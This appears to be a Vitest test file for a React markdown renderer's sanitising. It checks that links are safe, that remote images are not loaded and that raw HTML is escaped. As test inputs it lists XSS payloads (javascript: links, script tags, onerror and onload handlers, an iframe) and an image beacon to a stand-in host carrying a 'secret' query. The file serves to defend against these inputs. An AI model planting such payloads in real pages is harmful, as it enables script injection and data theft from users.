// @vitest-environment jsdom
import { createElement, Fragment } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { findFixture } from '../../../../../../fixtures/find-fixture.ts'
import { markdownComponents } from '../components.tsx'
import { toReact } from './processor.ts'

const html = (text: string) => renderToStaticMarkup(createElement(Fragment, null, toReact(text, markdownComponents)))

describe('links and pictures', () => {
  it('open elsewhere and tell nobody where from', () => {
    expect(html('[docs](https://example.org)')).toContain(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">docs</a>',
    )
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,hi)',
    '[x](vbscript:x)',
    '[x](/ui/logout)',
    '[x](//evil.example)',
  ])('%s leads nowhere', (text) => {
    expect(html(text)).not.toContain('href')
  })

  it('are not fetched from other hosts', () => {
    const picture = html('![cat](https://evil.example/p.png?q=secret)')
    expect(picture).not.toContain('<img')
    expect(picture).toContain('evil.example')
  })
})

describe('HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    'a <b onclick="x()">b</b>',
    '<svg onload=alert(1)>',
    '<style>*{display:none}</style>',
    '<form action="/v1/runs"><button>go</button></form>',
  ])('%s is shown as text', (text) => {
    expect(html(text)).not.toMatch(/<(?:script|img|iframe|b|svg|style|form|button)[\s>]/)
    expect(html(text)).toContain('&lt;')
  })

  it('comments disappear, and a break in a table cell is a break', () => {
    expect(html('a <!-- secret --> b')).not.toContain('secret')
    expect(html('| a |\n|---|\n| b<br>c |')).toContain('b<br/>c')
  })
})

it('strikes through what two tildes stand around, and nothing else', () => {
  const text = findFixture('markdown/tilde.md')!
  expect(html(text).match(/<del>.*?<\/del>/g)).toEqual(['<del>deleted</del>'])
  expect(html('from 1~2 and 3~4')).toContain('from 1~2 and 3~4')
})

it('draws a settled code block with its code', () => {
  expect(html('```ts\nconst a = 1\n```')).toContain('const a = 1')
})

it('draws task lists without controls that do nothing', () => {
  expect(html('- [x] done\n- [ ] open')).not.toContain('<input')
})
